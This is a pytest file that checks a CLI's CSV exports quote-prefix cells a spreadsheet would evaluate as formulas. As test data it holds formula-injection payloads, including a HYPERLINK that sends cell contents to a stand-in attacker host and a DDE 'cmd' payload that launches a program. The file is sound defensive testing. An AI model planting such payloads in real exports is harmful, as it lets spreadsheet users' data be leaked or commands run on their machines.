"""Injection outside the browser: CSV cells a spreadsheet would run as formulas, terminal escapes
in what the CLI prints, live links in notes and reports, and graph labels escaped for their
medium."""

from __future__ import annotations

import csv
import json

import pytest

from factories import example_trace, make_workspace
from viz_app.cli import main
from viz_app.text import csv_cell, csv_value

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
"""Text that a spreadsheet would evaluate, one per character OWASP lists."""


def test_csv_cell_puts_a_quote_before_text_a_spreadsheet_would_evaluate():
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
        assert csv_value(csv_cell(text)) == text


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert [csv_cell(v) for v in (-1, -0.5, 3, None, True)] == [-1, -0.5, 3, None, True]
    assert [csv_cell(v) for v in ("-1", "+0.5", "-2e3", "ok", "", "1-2")] == \
        ["-1", "+0.5", "-2e3", "ok", "", "1-2"]


def test_csv_cell_reads_back_exactly_text_that_starts_with_a_quote():
    assert csv_cell("'=x") == "''=x" and csv_value("''=x") == "'=x"
    assert csv_value(csv_cell("'plain")) == "'plain"


HOSTILE_ID = "=HYPERLINK(\"http://evil.example\",\"open\")"


@pytest.fixture
def hostile(tmp_path):
    """A workspace with a trace whose id, and a label whose reviewer and comment, are
    formulas."""
    ws = make_workspace(tmp_path, traces=[example_trace(HOSTILE_ID)])
    trace = ws.trace(HOSTILE_ID)
    ws.labels.save(trace, "task_outcome", "failure", "@reviewer", comment="-1+cmd|' /C calc'!A0")
    return ws


def _cells(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as found:
        return list(csv.DictReader(found))


def _starts_a_formula(cell: str) -> bool:
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(cell)  # a number is no formula
    except ValueError:
        return True
    return False


def test_the_csv_export_neutralises_every_text_cell(hostile, tmp_path):
    assert main(["labels", "export", "--format", "csv", "--db", hostile.settings.db_url,
                 "-o", str(tmp_path / "labels.csv")]) == 0
    [row] = _cells(tmp_path / "labels.csv")
    assert row["trace_id"] == "'" + HOSTILE_ID
    assert row["reviewer"] == "'@reviewer"
    assert row["comment"] == "'-1+cmd|' /C calc'!A0"
    assert row["reward"] == "-1.0"  # a number stays a number
    assert json.loads(row["value"]) == "failure"
    assert not [c for r in _cells(tmp_path / "labels.csv") for c in r.values()
                if _starts_a_formula(c)]


def test_the_rewards_csv_neutralises_every_text_cell(hostile, tmp_path):
    assert main(["labels", "export", "--format", "rewards", "--db", hostile.settings.db_url,
                 "-o", str(tmp_path / "rewards.csv")]) == 0
    [row] = _cells(tmp_path / "rewards.csv")
    assert row["trace_id"] == "'" + HOSTILE_ID
    assert row["reward"] == "-1.0" and row["reviewers"] == "1"
    assert not [c for c in row.values() if _starts_a_formula(c)]


def test_a_negative_answer_stays_json_in_the_csv(tmp_path):
    from factories import premature

    ws = make_workspace(tmp_path, traces=[premature()])
    trace = ws.trace(premature().trace_id)
    ws.labels.save(trace, "aggregation_quality", 1, "ann", "e12")
    ws.export("csv", tmp_path / "labels.csv")
    [row] = _cells(tmp_path / "labels.csv")
    assert (row["value"], row["reward"]) == ("1", "-1.0")
